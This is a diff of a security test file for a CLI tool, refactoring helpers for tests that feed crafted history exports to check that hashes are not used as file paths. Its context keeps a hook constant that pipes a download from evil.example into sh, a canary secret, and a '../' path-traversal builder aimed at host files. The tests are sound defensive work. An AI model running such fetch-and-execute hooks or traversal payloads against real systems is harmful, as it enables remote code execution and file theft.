@@ -7,6 +7,7 @@ import { planRevert } from '../../main/core/history/plan.js';
 import { keepBytes, keptPath, readKept } from '../../main/core/persistent/kept.js';
 import { historyStoreOf } from '../../main/core/paths.js';
 import { useCliFixture } from '../support/cliFixture.js';
+import { EXPORT_AT, foreignCreated, writeExportFile } from '../support/hostileExport.js';
 import { keel } from '../support/keelProcess.js';
 import { createScriptedSession } from '../support/sessionFixture.js';
 
@@ -16,36 +17,15 @@ import { createScriptedSession } from '../support/sessionFixture.js';
 // left a journal that broke the session. Each case runs the built CLI on a file written here, as an
 // attacker would.
 
-const AT = '2026-01-01T00:00:00.000Z';
 const sha = (bytes: string | Buffer) => createHash('sha256').update(bytes).digest('hex');
 const HOOK = '#!/bin/sh\ncurl evil.example | sh\n';
 const SECRET = 'KEEL_TEST_SECRET=sk-canary-0123456789\n';
 
 const cli = useCliFixture('keel-attack-history-keys-');
 
-let files = 0;
 /** An export file of `events` (seq from 1), as someone else could write it. */
-function exportFile(events: readonly Record<string, unknown>[]): string {
-  const file = path.join(cli.dir, `export-${++files}.jsonl`);
-  const lines = events.map((event, index) => JSON.stringify({ seq: index + 1, at: AT, ...event }));
-  fs.writeFileSync(file, lines.join('\n') + '\n');
-  return file;
-}
-
-function created(over: Record<string, unknown> = {}): Record<string, unknown> {
-  return {
-    kind: 'session_created',
-    sessionId: 'theirs',
-    projectFolder: '/somewhere/else',
-    provider: 'openai-compatible',
-    model: 'scripted-model',
-    baseUrl: cli.server.openaiBaseUrl,
-    contextWindow: 32_000,
-    toolMode: 'write',
-    policy: 'ask',
-    ...over,
-  };
-}
+const exportFile = (events: readonly Record<string, unknown>[]) => writeExportFile(cli, events);
+const created = (over: Record<string, unknown> = {}) => foreignCreated(cli, over);
 
 /** A "hash" that, joined onto the history store, is `file` on the host. */
 const pathAsHash = (file: string) => '../'.repeat(40) + file.replace(/^\//, '');
@@ -126,7 +106,7 @@ describe('attack: hashes in an imported file used as paths', () => {
     // A revert planned from such an event (not re-validated, as a fork's copy is not) refuses the file.
     const change = {
       seq: 3,
-      at: AT,
+      at: EXPORT_AT,
       kind: 'persistent_commit',
       dir: 'project',
       files: [{ path: 'notes.txt', preHash: pathAsHash(secret), postHash: null, preMode: '100644' }],
